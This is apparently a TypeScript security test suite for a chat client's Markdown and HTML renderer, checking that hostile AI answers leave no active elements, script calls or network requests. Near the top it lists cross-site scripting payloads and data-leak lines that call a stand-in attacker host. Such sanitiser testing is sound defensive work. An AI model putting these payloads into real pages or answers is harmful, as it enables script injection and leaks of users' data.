import { expect } from 'chai'
import { seededRandom } from '@colloquy/chat-core/testing'
import { plainContext, randomCuts, renderPieces } from '../testing/render-markdown.js'
import type { RenderContext } from './render-context.js'
import { Formulas } from './extras/math/index.js'
import { highlight } from './extras/highlight.js'
import { loadHtmlBuilder } from './load-html.js'

interface Corpus {
  readonly cases: readonly { readonly id: string; readonly payload: string }[]
}

const seed = 97
const BUILT_IN = [
  '<script>attacked()</script>',
  '<img src=x onerror=attacked()>',
  '<svg onload=attacked()><script>attacked()</script></svg>',
  '<iframe src="javascript:attacked()"></iframe>',
  '<style>@import url(https://attacker.test/x);</style><p style="background:url(https://attacker.test/y)">x</p>',
  '[a](javascript:attacked()) ![b](javascript:attacked()) <javascript:attacked()>',
  '[a](data:text/html,<script>attacked()</script>)',
  '![x](https://attacker.test/leak?q=1)',
  '<form action=https://attacker.test><button formaction=javascript:attacked()>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=attacked()></style></mglyph></table></mtext></math>',
  '$\\href{javascript:attacked()}{x}$ and \\[\\text{<img src=x onerror=attacked()>}\\] $\\includegraphics{https://attacker.test/x}$',
  '<a href="https://a.test" ping="https://attacker.test" onclick="attacked()">x</a><link rel=prefetch href=https://attacker.test>',
]

const ELEMENTS = new Set(
  (
    'a abbr b blockquote br button caption cite code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 ' +
    'hr i input ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr ' +
    'u ul var'
  ).split(' '),
)
const MATH_ELEMENTS = new Set(
  'math mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mpadded mstyle'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'display displaystyle scriptlevel stretchy fence form accent movablelimits linethickness lspace rspace width height depth mathvariant separator href target rel title class type disabled checked tabindex role aria-label start scope colspan rowspan open lang dir'.split(
    ' ',
  ),
)
/** Classes are ours alone: an answer cannot name one. */
const CLASSES =
  /^(?:|math(?: display)?(?: waiting)?|plain|task|code|code-bar|copy-code|table|image-link|h[1-6]|align-(?:left|right|center))$/

/** Math whose library is there. */
async function loadedFormulas(): Promise<Formulas> {
  await new Promise<void>((done) => {
    const first = new Formulas(done).build(
      { type: 'math', raw: '$x$', text: 'x', display: false },
      plainContext.strings,
    )
    if (!first.matches('.waiting')) done()
  })
  return new Formulas(() => undefined)
}

/** What is left in the document that could act; every payload must leave nothing. */
function faultsOf(dom: Element): string[] {
  return [...dom.querySelectorAll('*')].flatMap((element) => [
    ...(isKnown(element) ? [] : [`<${element.localName}>`]),
    ...(CLASSES.test(element.getAttribute('class') ?? '') ? [] : [`class=${element.className}`]),
    ...[...element.attributes]
      .filter(({ name }) => !ATTRIBUTES.has(name))
      .map(({ name }) => `${element.localName} ${name}`),
    ...(element instanceof HTMLAnchorElement ? linkFaults(element) : []),
  ])
}

const isKnown = (element: Element): boolean =>
  element.closest('.math > math')
    ? element instanceof MathMLElement && MATH_ELEMENTS.has(element.localName)
    : ELEMENTS.has(element.localName) && element instanceof HTMLElement

function linkFaults(link: HTMLAnchorElement): string[] {
  const isSafe = /^(?:https?|mailto|tel):$/.test(link.protocol) && link.rel === 'noopener noreferrer nofollow'
  return isSafe && link.target === '_blank' ? [] : [`link to ${link.href}`]
}

describe('hostile answers', () => {
  let attacks: string[] = []
  let violations: string[] = []
  const undo: (() => void)[] = []

  before(() => {
    for (const name of ['attacked', 'alert', 'prompt', 'confirm', 'print', 'open'] as const) {
      const old = Object.getOwnPropertyDescriptor(window, name)
      Object.defineProperty(window, name, {
        value: () => attacks.push(name),
        configurable: true,
        writable: true,
      })
      undo.push(() => (old ? Object.defineProperty(window, name, old) : Reflect.deleteProperty(window, name)))
    }
  })

  after(() => undo.forEach((restore) => restore()))

  beforeEach(() => {
    attacks = []
    violations = []
    performance.clearResourceTimings()
  })

  /** Puts one payload on the page, whole and streamed, and looks at what is left. */
  function expose(id: string, payload: string, context: Partial<RenderContext>): void {
    const cuts = randomCuts(payload, 6, seededRandom(seed + payload.length))
    for (const pieces of [[], cuts]) {
      const dom = renderPieces(payload, pieces, context)
      document.body.append(dom)
      violations.push(...faultsOf(dom).map((fault) => `${id} ${fault}: ${payload.slice(0, 80)}`))
      for (const element of dom.querySelectorAll<HTMLElement>('details, [tabindex]')) element.focus()
      dom.remove()
    }
  }

  /** Time for what was loaded or scheduled to show itself. */
  const aftermath = (): Promise<void> => new Promise((done) => setTimeout(done, 100))

  async function expectHarmless(): Promise<void> {
    await aftermath()
    expect(violations.slice(0, 10)).to.deep.equal([])
    expect(attacks).to.deep.equal([])
    expect(performance.getEntriesByType('resource').map(({ name }) => name)).to.deep.equal([])
  }

  const modes = [
    ['as text', () => Promise.resolve<Partial<RenderContext>>({})],
    ['where the site allows HTML', async () => ({ html: await loadHtmlBuilder() })],
    ['with math', async () => ({ math: await loadedFormulas() })],
  ] as const

  for (const [mode, contextOf] of modes) {
    it(`do nothing, ${mode}: the usual ones`, async () => {
      const context = await contextOf()
      performance.clearResourceTimings()
      for (const payload of BUILT_IN) expose('built-in', payload, context)
      await expectHarmless()
    })

    for (const name of ['xss-payloads', 'exfil-payloads']) {
      it(`do nothing, ${mode}: every case of ${name} (skipped without CORPUS_DIR; seed ${seed})`, async function () {
        const response = await fetch(`/corpus/${name}.json`)
        const corpus = (await response.json()) as Corpus | null
        if (!corpus) return this.skip()
        const context = await contextOf()
        expect(corpus.cases.length).to.be.greaterThan(100)
        performance.clearResourceTimings()
        for (const { id, payload } of corpus.cases) expose(id, payload, context)
        await expectHarmless()
      })
    }
  }

  it('do nothing as code with colours: every case of the suites (skipped without CORPUS_DIR)', async function () {
    const suites: (Corpus | null)[] = await Promise.all(
      ['xss-payloads', 'exfil-payloads'].map(async (name) => (await fetch(`/corpus/${name}.json`)).json()),
    )
    if (suites.includes(null)) return this.skip()
    // The grammars themselves are fetched before.
    await Promise.all(
      ['html', 'md', 'css', 'js'].map((language) => highlight(document.createElement('code'), language)),
    )
    performance.clearResourceTimings()
    for (const { id, payload } of suites.flatMap((suite) => suite?.cases ?? [])) {
      for (const language of ['html', 'md', 'css', 'js']) {
        const code = document.body.appendChild(document.createElement('code'))
        code.textContent = payload
        await highlight(code, language)
        const isChanged = code.textContent !== payload || code.querySelector('*:not(span)') !== null
        violations.push(
          ...[...code.querySelectorAll('span')].flatMap((span) =>
            span.getAttributeNames().filter((name) => name !== 'class'),
          ),
        )
        if (isChanged) violations.push(`${id} as ${language}: ${payload.slice(0, 80)}`)
        code.remove()
      }
    }
    await expectHarmless()
  })

  it('are noticed by this test, if something is left of them', () => {
    const dom = document.createElement('div')
    dom.innerHTML = '<b onclick="x()" class="own">x</b><a href="javascript:x()">x</a>'
    expect(faultsOf(dom)).to.have.length(3)
  })
})

describe('HTML where the site allows it', () => {
  let builder: RenderContext['html']

  before(async () => {
    builder = await loadHtmlBuilder()
  })

  const html = (markdown: string): string => renderPieces(markdown, [], { html: builder }).innerHTML

  it('keeps harmless elements around Markdown', () => {
    expect(html('press <kbd>Ctrl</kbd> and H<sub>2</sub>O, <b>**both**</b>')).to.equal(
      '<p>press <kbd>Ctrl</kbd> and H<sub>2</sub>O, <b><strong>both</strong></b></p>',
    )
  })

  it('takes style, class and id from it', () => {
    expect(html('<p class="a" id="b" style="color:red" title="t">x</p>')).to.equal(
      '<div><p title="t">x</p></div>',
    )
  })

  it('puts links and images under the same rules as those of Markdown', () => {
    const dom = html(
      '<a href="https://a.example/">x</a> <a href="/logout">y</a> <img src="https://b.example/i.png" alt="z">',
    )
    expect(dom).to.contain('rel="noopener noreferrer nofollow"')
    expect(dom).not.to.contain('logout')
    expect(dom).not.to.contain('<img')
    expect(dom).to.contain('z (b.example)')
  })

  it('gives the same nodes streamed', () => {
    const text = 'a <b>c **d</b> e** <details><summary>s</summary>\n\n<div>\n<p>x</p>\n</div>\n\nend <i>'
    const whole = html(text)
    for (let cut = 0; cut < text.length; cut += 1) {
      expect(renderPieces(text, [cut], { html: builder }).innerHTML, String(cut)).to.equal(whole)
    }
  })
})
